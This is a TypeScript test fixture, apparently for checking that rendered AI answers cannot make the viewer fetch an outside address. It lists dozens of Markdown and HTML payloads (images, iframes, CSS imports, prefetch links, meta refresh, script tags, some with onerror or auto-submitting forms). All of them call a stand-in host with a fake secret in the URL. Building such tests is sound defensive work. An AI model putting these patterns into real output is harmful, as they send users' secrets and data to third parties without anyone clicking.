// Answers that try to have an address fetched by whatever shows them.

export const BEACON_HOST = 'beacon.invalid';

const URL = `http://${BEACON_HOST}/x.png?secret=sk-1234`;

export const BEACONS: readonly string[] = beaconsTo(URL);

/** The same to another address. */
export function beaconsTo(url: string): readonly string[] {
  return [
    `![](${url})`,
    `![a cat](${url})`,
    `![a cat](<${url}>)`,
    `![a cat](${url} "title")`,
    `![a][b]\n\n[b]: ${url}`,
    `![b]\n\n[b]: ${url}`,
    `[![a](${url})](${url})`,
    `[a](${url})`,
    `<${url}>`,
    url,
    `**${url}**`,
    `> ![a](${url})`,
    `- ![a](${url})`,
    `| a |\n| - |\n| ![a](${url}) |`,
    `# ![a](${url})`,
    `*![a](${url})*`,
    `[^1]\n\n[^1]: ![a](${url})`,
    `<img src="${url}">`,
    `<img src='${url}' onerror=alert(1)>`,
    `<img srcset="${url} 1x, ${url} 2x">`,
    `<IMG SRC=${url}>`,
    `<image href="${url}">`,
    `<picture><source srcset="${url}"></picture>`,
    `<svg><image href="${url}"/></svg>`,
    `<svg><use href="${url}#a"/></svg>`,
    `<video poster="${url}" src="${url}" autoplay></video>`,
    `<audio src="${url}" autoplay></audio>`,
    `<iframe src="${url}"></iframe>`,
    `<iframe srcdoc="<img src=${url}>"></iframe>`,
    `<object data="${url}"></object>`,
    `<embed src="${url}">`,
    `<link rel="stylesheet" href="${url}">`,
    `<link rel="prefetch" href="${url}">`,
    `<link rel="dns-prefetch" href="${url}">`,
    `<meta http-equiv="refresh" content="0;url=${url}">`,
    `<style>@import "${url}";</style>`,
    `<style>body{background:url(${url})}</style>`,
    `<div style="background-image:url('${url}')">x</div>`,
    `<table background="${url}"><tr><td>x</td></tr></table>`,
    `<body background="${url}">`,
    `<input type="image" src="${url}">`,
    `<form action="${url}"><input autofocus onfocus=this.form.submit()></form>`,
    `<a href="${url}" ping="${url}">x</a>`,
    `<base href="${url}">`,
    `<script src="${url}"></script>`,
    `<bgsound src="${url}">`,
    `<q cite="${url}">x</q>`,
    `\`\`\`html\n<img src="${url}">\n\`\`\``,
    `\`\`\`mermaid\ngraph TD; A["<img src='${url}'>"]\n\`\`\``,
    `$$\\includegraphics{${url}}$$`,
    `![a](${url.replace('http:', '')})`,
    `![a](HTTP://${url.slice('http://'.length)})`,
    `![a](${url}\n"x")`,
    `!\\[a](${url}) ![a](${url})`,
  ];
}
